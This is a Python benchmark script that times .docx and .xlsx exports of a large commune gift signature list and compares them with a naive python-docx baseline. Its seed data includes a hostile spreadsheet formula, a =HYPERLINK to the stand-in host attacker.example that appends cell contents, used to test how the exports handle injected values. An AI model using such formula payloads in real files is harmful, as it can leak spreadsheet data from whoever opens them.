"""The signature list (danh sách ký nhận) of a large commune list, as .docx and .xlsx.

Set-up (not timed): the Sóc Sơn registry, users, a campaign with one package,
an approved list of BENCH_ROWS rows (default 2,048, the largest commune list
seen) of people with names and addresses, some of them hostile
(`=HYPERLINK(...)`).

Timed, same run:
- `signature_list_docx` (the table's rows copied as XML from a first row built
  by python-docx) and `signature_list_xlsx`;
- baseline, the naive way: the same table built with python-docx one row and
  one cell at a time (how it was built before), in the same document layout.
The .docx is read back with python-docx (every row there, in order) and, when
LibreOffice is installed, converted to PDF (`soffice --headless`).
Target: the .docx of ~2,000 rows <= 3 s.

    DJANGO_SETTINGS_MODULE=config.settings PYTHONPATH=. .venv/bin/python bench/bench_exports_docx.py
"""

from __future__ import annotations

import datetime as dt
import io
import shutil
import subprocess
import tempfile
import time
from pathlib import Path
from typing import Any

from bench.common import (
    env_int,
    environment_line,
    insert_series,
    make_users,
    reset_sequence,
    seed_registry,
    table,
    throwaway_database,
)

ROWS = env_int("BENCH_ROWS", 2_048)
# The smoke run of tests/bench/test_bench_smoke.py: every knob above, tiny,
# and the lines (regular expressions) its output must contain.
SMOKE_ENV = {"BENCH_ROWS": 30}
SMOKE_LINES = [
    r"^signature list \.docx +30 +\d+\.\d\d ",
    r"^signature list \.xlsx +30 +\d+\.\d\d",
    r"^baseline: python-docx row by row +30 +\d+\.\d\d",
    r"^read back: python-docx +30 rows +yes",
]
TARGET_S = 3.0
COMMUNE = "00448"
HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def setup() -> Any:
    from cases.gifts.models import Campaign, GiftList, GiftPackage, GiftRecipient
    from cases.models import AdministrativeUnit, Person

    seed_registry()
    users = make_users(COMMUNE)
    commune = AdministrativeUnit.objects.get(level="commune", code=COMMUNE)
    campaign = Campaign.objects.create(
        code="tet-2024", name="Tết Giáp Thìn 2024", year=2024, occasion_date=dt.date(2024, 2, 10)
    )
    package = GiftPackage.objects.create(
        campaign=campaign, code="tp", name="Quà Thành phố", source="city", amount=500_000
    )
    gift_list = GiftList.objects.create(
        campaign=campaign, commune=commune, created_by=users.officer, state="approved"
    )
    insert_series(
        Person,
        ROWS,
        {
            "id": "g",
            "full_name": "CASE WHEN mod(g, 101) = 0 THEN %(hostile)s "
            "ELSE 'Nguyễn Văn Người Nhận ' || g END",
            "date_of_birth": "date '1950-01-01' + g",
            "sex": "'M'",
            "national_id": "'001050' || lpad(g::text, 6, '0')",
            "address": "'Thôn ' || mod(g, 12) || ', xã Phù Lỗ, huyện Sóc Sơn'",
            "commune_id": "%(commune)s",
            "categories": "ARRAY['ho_ngheo']::varchar[]",
            "merit_subtype": "''",
            "created_at": "now()",
        },
        {"commune": commune.pk, "hostile": HOSTILE},
    )
    reset_sequence(Person)
    insert_series(
        GiftRecipient,
        ROWS,
        {
            "id": "g",
            "gift_list_id": "%(list)s",
            "package_id": "%(package)s",
            "commune_id": "%(commune)s",
            "person_id": "g",
            "amount": "500000",
            "state": "'approved'",
            "created_at": "now()",
        },
        {"list": gift_list.pk, "package": package.pk, "commune": commune.pk},
    )
    reset_sequence(GiftRecipient)
    return GiftList.objects.select_related("campaign", "commune").get(pk=gift_list.pk)


def naive_docx(gift_list: Any) -> bytes:
    """The signature list's table built the way python-docx's API invites:
    add a row, then set each cell's text, row after row."""
    from docx.shared import Mm, Pt

    from cases.gifts import documents as gd
    from cases.official import docx as od

    data = gd.signature_list_data(gift_list)
    doc = od.new_document(landscape=True)
    od.document_title(doc, gd.SIGNATURE_TITLE, gift_list.campaign.name)
    columns = gd.SIGNATURE_COLUMNS
    tbl = doc.add_table(rows=1, cols=len(columns))
    tbl.style = "Table Grid"
    for cell, col in zip(tbl.rows[0].cells, columns, strict=True):
        cell.text = col.header
    for row in gd._signature_cells(data):
        cells = tbl.add_row().cells
        for cell, col, value in zip(cells, columns, row, strict=True):
            p = cell.paragraphs[0]
            p.alignment = col.align
            run = p.add_run(od.amount_text(value) if isinstance(value, int) else str(value))
            run.font.size = Pt(11)
        tbl.rows[-1].height = Mm(gd.SIGNATURE_ROW_PT / 2.83)
    for r in tbl.rows:
        for cell, col in zip(r.cells, columns, strict=True):
            cell.width = Mm(col.width_mm)
    return od.to_bytes(doc)


def timed(f: Any) -> tuple[float, Any]:
    t0 = time.perf_counter()
    out = f()
    return time.perf_counter() - t0, out


def libreoffice_check(content: bytes) -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        return "not installed"
    with tempfile.TemporaryDirectory(prefix="bench_docx_") as tmp:
        path = Path(tmp) / "ds.docx"
        path.write_bytes(content)
        subprocess.run(
            [soffice, "--headless", "--convert-to", "pdf", "--outdir", tmp, str(path)],
            check=False,
            capture_output=True,
            timeout=300,
        )
        pdf = Path(tmp) / "ds.pdf"
        return f"PDF {pdf.stat().st_size // 1024} KB" if pdf.exists() else "FAILED"


def main() -> None:
    import docx

    from cases.gifts.documents import signature_list_docx, signature_list_xlsx

    print(environment_line())
    print(f"# BENCH_ROWS={ROWS}")
    t0 = time.perf_counter()
    gift_list = setup()
    print(f"# set-up in {time.perf_counter() - t0:.1f} s")
    signature_list_docx(gift_list)  # warm-up: templates, fonts, labels
    docx_s, content = timed(lambda: signature_list_docx(gift_list))
    xlsx_s, xlsx = timed(lambda: signature_list_xlsx(gift_list))
    naive_s, _naive = timed(lambda: naive_docx(gift_list))

    body = docx.Document(io.BytesIO(content)).tables[1]
    # Numbered rows are the people; package headings and subtotals are not numbered.
    people = [row for row in body.rows[1:-1] if row.cells[0].text.isdigit()]
    numbers = [row.cells[0].text for row in people]
    names = [row.cells[1].text for row in people]
    complete = numbers == [str(i) for i in range(1, ROWS + 1)] and len(names) == ROWS
    print()
    print(
        table(
            ["what", "rows", "seconds", "size KB", "target"],
            [
                [
                    "signature list .docx",
                    ROWS,
                    f"{docx_s:.2f}",
                    len(content) // 1024,
                    f"<= {TARGET_S:.0f} s {'OK' if docx_s <= TARGET_S else 'MISSED'}",
                ],
                ["signature list .xlsx", ROWS, f"{xlsx_s:.2f}", len(xlsx) // 1024, ""],
                [
                    "baseline: python-docx row by row",
                    ROWS,
                    f"{naive_s:.2f}",
                    len(_naive) // 1024,
                    "",
                ],
                ["ratio baseline / .docx", "", f"{naive_s / docx_s:.1f}x", "", ""],
            ],
        )  # fmt: skip
    )
    print()
    print(f"read back: python-docx       {len(numbers)} rows  {'yes' if complete else 'NO'}")
    print(f"LibreOffice --convert-to pdf  {libreoffice_check(content)}")


if __name__ == "__main__":
    with throwaway_database("exports_docx"):
        main()
